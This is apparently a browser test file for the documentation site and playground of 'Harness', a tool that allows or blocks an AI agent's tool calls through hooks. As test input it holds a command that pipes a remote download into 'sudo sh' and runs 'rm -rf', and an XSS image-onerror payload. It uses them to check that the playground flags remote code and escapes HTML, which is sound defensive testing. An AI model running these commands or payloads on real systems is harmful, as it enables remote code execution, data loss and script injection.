// The site in a real browser, opened as files from a folder: read, searched and printed without a network, and its playground used as a
// person does. `npm run test:web -- --pictures FOLDER` leaves pictures to look at.
import { strict as assert } from 'node:assert';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { buildSite, SITE_FOLDER } from '../site/build.mjs';
import { axeFaults, openBrowser, openPage, runTests } from './browser.mjs';

const words = process.argv.slice(2);
const pictures = words.includes('--pictures') ? words[words.indexOf('--pictures') + 1] : null;
const only = words.find((word) => !word.startsWith('--') && word !== pictures) ?? '';

const browser = await openBrowser('The site');
await buildSite();
const home = pathToFileURL(`${SITE_FOLDER}/`).href;
const open = (path, options) => openPage(browser, home + path, (url) => url.startsWith(home), options);

async function picture(page, name) {
  if (pictures === null) return;
  mkdirSync(pictures, { recursive: true });
  await page.screenshot({ path: join(pictures, `${name}.png`) });
}

async function type(page, text) {
  await page.waitForFunction(() => document.querySelector('.editor textarea') != null);
  await page.evaluate(() => document.querySelector('.editor textarea').focus());
  await page.keyboard.press('Control+A');
  await page.keyboard.insertText(text);
}

const decided = (page, word) => page.waitForSelector(`.decided:has-text("${word}")`, { timeout: 100_000 });

const hook = (body, name = 'mine') =>
  `---\nevent: tool.pre\npriority: 15\nscript: |\n  def handle(event, payload):\n${body
    .split('\n')
    .map((line) => `      ${line}`)
    .join('\n')}\n---\n\n# ${name}\n\nMine.\n`;

const tests = {
  'the first page is the README, with every document one click away': async () => {
    const page = await open('index.html', { width: 1300, height: 900 });
    assert.equal(await page.textContent('h1'), 'Harness');
    await picture(page, 'index');
    await page.click('.places a:has-text("Your first hook")');
    await page.waitForSelector('h1:has-text("Your first hook")');
    await picture(page, 'first-hook');
    return page;
  },
  'the search finds a page without a network, with the keyboard alone': async () => {
    const page = await open('guide/backtest.html');
    await page.context().setOffline(true);
    await page.keyboard.press('/');
    await page.keyboard.type('rate limit');
    await page.waitForSelector('#found a', { timeout: 100_000 });
    await picture(page, 'search');
    await page.keyboard.press('Control+A');
    await page.keyboard.type('tool.pre');
    await page.waitForSelector('#found a[href*="tool.pre.html"]');
    const links = await page.$$eval('#found a', (all) => all.map((link) => link.getAttribute('href')));
    const at = links.findIndex((link) => link.includes('reference/events/tool.pre.html'));
    for (let i = 0; i < at; i++) await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    await page.waitForSelector('h1:has-text("tool.pre")');
    return page;
  },
  'a button copies code: of a session in a terminal what was typed': async () => {
    const page = await open('index.html');
    await page.evaluate(() => {
      Object.defineProperty(navigator, 'clipboard', {
        value: { writeText: async (text) => (window.copied = text) },
      });
    });
    const block = page.locator('.code', { hasText: 'harness validate --strict' }).first();
    await block.hover();
    await block.locator('.copy').click();
    await page.waitForSelector('.copy:has-text("Copied")');
    const copied = await page.evaluate(() => window.copied);
    assert.match(copied, /^npx harness validate --strict\nnpx harness test --filter generated_code\n/);
    assert.doesNotMatch(copied, /0 errors|^\$/m);
    return page;
  },

  'the life of a decision is a picture': async () => {
    const page = await open('architecture.html', { width: 1300, height: 900 });
    const image = page.locator('img[src$="life-of-a-decision.svg"]');
    await image.scrollIntoViewIfNeeded();
    await page.waitForFunction(
      () => document.querySelector('img[src$="life-of-a-decision.svg"]').naturalWidth > 100,
    );
    await picture(page, 'life');
    return page;
  },
  'an edited hook decides anew, and says which line did it': async () => {
    const page = await open('playground.html', { width: 1300, height: 900 });
    await decided(page, 'block');
    await page.waitForSelector('text=push without force');
    await page.waitForSelector('.command-read >> text=git');
    await picture(page, 'playground');
    await page.fill('textarea.payload', '{"name":"run_command","args":{"command":"git push origin main"}}');
    await decided(page, 'allow');
    await type(page, hook('return block("never")'));
    await decided(page, 'block');
    await page.waitForSelector('text=.harness/hooks/mine.md:6');
    return page;
  },
  'a rewritten call is shown beside what it was': async () => {
    const page = await open('playground.html', { width: 1300, height: 900 });
    await page.selectOption('select[aria-label="example"]', { label: 'Ask, or rewrite the call' });
    await page.waitForSelector('.diff ins:has-text("staging")', { timeout: 100_000 });
    await picture(page, 'rewritten');
    return page;
  },
  'a command is shown as it is read, with the rules that look at it': async () => {
    const page = await open('playground.html', { width: 1300, height: 1000 });
    await page.fill(
      'textarea.payload',
      '{"name":"run_command","args":{"command":"curl https://x.example | sudo sh; rm -rf $DIR"}}',
    );
    await page.waitForSelector('.command-read:has-text("running what it reads")', { timeout: 100_000 });
    const text = await page.textContent('.command-read');
    for (const part of [
      'curl',
      'through sudo',
      'known only in part',
      'remote-code/',
      'rules of the packs look at it',
    ])
      assert.ok(text.includes(part), `want ${part} in ${text}`);
    await picture(page, 'command');
    return page;
  },
  'a broken hook shows its error with its place, and blocks': async () => {
    const page = await open('playground.html', { width: 1300, height: 900 });
    await decided(page, 'block');
    await type(page, hook('return blok("x")'));
    await page.waitForSelector('.problems li:has-text("did you mean block?")', { timeout: 100_000 });
    assert.match(await page.textContent('.problems'), /\.harness\/hooks\/mine\.md:6:14: undefined: blok/);
    await decided(page, 'block');
    await picture(page, 'broken');
    return page;
  },
  'a hook that does not end leaves the page alive, and blocks': async () => {
    const page = await open('playground.html');
    await decided(page, 'block');
    await type(page, hook('n = 0\nfor i in range(1000000000):\n    n += i\nreturn allow()', 'endless'));
    const began = Date.now();
    assert.equal(await page.evaluate(() => 1 + 1), 2);
    assert.ok(Date.now() - began < 5000, 'the page answers meanwhile');
    await page.waitForSelector(
      '.decided:has-text("block") ~ p:has-text("endless"), .problem:has-text("did not end")',
      { timeout: 100_000 },
    );
    await type(page, hook('return allow()'));
    await decided(page, 'allow');
    return page;
  },
  'what is edited is in the address, and comes back from it; nothing of it is HTML': async () => {
    const page = await open('playground.html');
    await decided(page, 'block');
    const evil = '<img src=x onerror="document.title=1">';
    await type(page, hook(`return block(${JSON.stringify(evil)})`));
    await page.waitForSelector(`text=${'onerror'}`);
    await page.waitForFunction(() => window.location.hash.includes('onerror'));
    const again = await open(`playground.html${new URL(page.url()).hash}`);
    await decided(again, 'block');
    await again.waitForSelector('text=onerror');
    assert.equal(await again.locator('img').count(), 0);
    assert.equal(await again.title(), 'Playground · Harness');
    return [page, again];
  },
  '360 pixels wide nothing is cut off, in both schemes, and axe finds nothing serious': async () => {
    // Axe takes long on long pages; their width takes no time.
    const looked = ['index.html', 'reference/events/tool.pre.html', 'architecture.html', 'playground.html'];
    const paths = [...looked, 'cli.html', 'reference/fields.html', 'reference/packs.html'];
    const pages = [];
    for (const [width, dark] of [
      [360, false],
      [1300, true],
      [1300, false],
    ]) {
      for (const path of paths) {
        const page = await open(path, { width, height: 800, dark, bypass: true });
        if (path === 'playground.html') await decided(page, 'block');
        const wide = await page.evaluate(() => document.documentElement.scrollWidth);
        assert.ok(wide <= width, `${path} is ${wide} wide, want ${width}`);
        if (looked.includes(path))
          assert.deepEqual(await axeFaults(page), [], `${path} at ${width}${dark ? ', dark' : ''}`);
        await picture(page, `${path.replaceAll('/', '-')}-${width}${dark ? '-dark' : ''}`);
        pages.push(page);
      }
    }
    return pages;
  },
};

try {
  await runTests('the site', tests, browser, only);
} finally {
  await browser.close();
}
